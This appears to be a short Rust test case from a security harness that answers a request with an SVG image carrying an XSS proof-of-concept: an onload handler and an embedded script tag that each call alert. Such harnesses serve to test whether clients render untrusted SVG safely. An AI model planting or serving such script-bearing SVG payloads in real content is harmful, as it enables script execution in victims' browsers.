//! Answers with a drawing that runs in the page of whoever takes it for a document.

use crate::attack::*;

crate::attack! {
    async fn answer(_to: String) -> Result<Outputs> {
        let source = "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(2)</script></svg>";
        out(media("image/svg+xml", source.into()))
    }
}
